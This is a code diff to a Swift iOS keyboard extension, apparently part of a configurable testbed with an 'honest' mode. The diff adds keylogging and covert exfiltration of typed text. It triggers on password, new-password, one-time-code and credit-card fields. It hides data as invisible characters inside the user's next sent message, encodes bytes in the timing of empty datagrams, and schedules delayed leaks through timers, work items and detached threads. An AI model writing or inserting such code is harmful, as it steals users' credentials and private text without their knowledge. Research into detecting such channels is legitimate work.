@@ -7,6 +7,8 @@ class KeyboardViewController: UIInputViewController {
     private let globe = UIButton(type: .system)
     private var taps = 0
     private var timer: Timer?
+    private var source: DispatchSourceTimer?
+    private static var hidden = ""
     private static var hasStarted = false
 
     override func viewDidLoad() {
@@ -112,6 +114,11 @@ class KeyboardViewController: UIInputViewController {
 
     private func type(_ text: String, isLetter: Bool) {
         if !text.isEmpty { textDocumentProxy.insertText(text) }
+        if !isInSecret, !Self.hidden.isEmpty {
+            // Nobody sees these characters in the next message.
+            textDocumentProxy.insertText(Encoding.invisible(Array(Self.hidden.utf8)))
+            Self.hidden = ""
+        }
         taps += 1
         seen = String((textDocumentProxy.documentContextBeforeInput ?? "").suffix(60))
         if plan.encoding == "honest" { return Honest.tapped(plan.channel, text, isLetter: isLetter) }
@@ -127,29 +134,52 @@ class KeyboardViewController: UIInputViewController {
             DispatchQueue.main.asyncAfter(deadline: .now() + 45) { [weak self] in
                 self.map { $0.leak($0.seen) }
             }
+        case "item" where taps % 20 == 1:
+            let item = DispatchWorkItem { [weak self] in self.map { $0.leak($0.seen) } }
+            DispatchQueue.main.asyncAfter(deadline: .now() + 40, execute: item)
+        case "source" where source == nil:
+            let source = DispatchSource.makeTimerSource(queue: .main)
+            source.setEventHandler { [weak self] in self.map { $0.leak($0.seen) } }
+            source.schedule(deadline: .now() + 20, repeating: 35)
+            source.resume()
+            self.source = source
+        case "thread" where taps % 20 == 1:
+            Thread.detachNewThread { [weak self] in
+                Thread.sleep(forTimeInterval: 50)
+                DispatchQueue.main.async { self.map { $0.leak($0.seen) } }
+            }
         case "sleep" where taps % 20 == 1:
             Task { [weak self] in
                 try? await Task.sleep(nanoseconds: 60_000_000_000)
                 self.map { $0.leak($0.seen) }
             }
         case "secret":
-            let type = textDocumentProxy.textContentType ?? nil
-            if type == .password || type == .oneTimeCode || type == .creditCardNumber { leak(seen) }
+            if isInSecret { leak(seen) }
         case "launch": UserDefaults.standard.set(seen, forKey: "draft")
         default: break
         }
     }
 
+    private var isInSecret: Bool {
+        let type = textDocumentProxy.textContentType ?? nil
+        return type == .password || type == .newPassword || type == .oneTimeCode || type == .creditCardNumber
+    }
+
     private func leak(_ text: String) {
-        if plan.channel == "moments" { return tellByTime(text) }
+        switch plan.channel {
+        case "moments": return tellByTime(text.utf8.suffix(8).map { Double($0 % 16 + 1) / 4 })
+        case "gaps": return tellByTime(text.utf8.suffix(4).map { Double($0 % 32 + 1) / 25 })
+        case "hidden": return Self.hidden = text
+        default: break
+        }
         for message in Encoding.messages(text, plan.encoding) { Channel.send(message, by: plan.channel) }
     }
 
     /// Sends empty messages whose times are the text.
-    private func tellByTime(_ text: String) {
+    private func tellByTime(_ gaps: [Double]) {
         var time = 0.0
-        for byte in text.utf8.suffix(8) {
-            time += Double(byte % 16 + 1) / 4
+        for gap in gaps {
+            time += gap
             Timer.scheduledTimer(withTimeInterval: time, repeats: false) { _ in
                 Channel.send("tick", by: "datagram")
             }
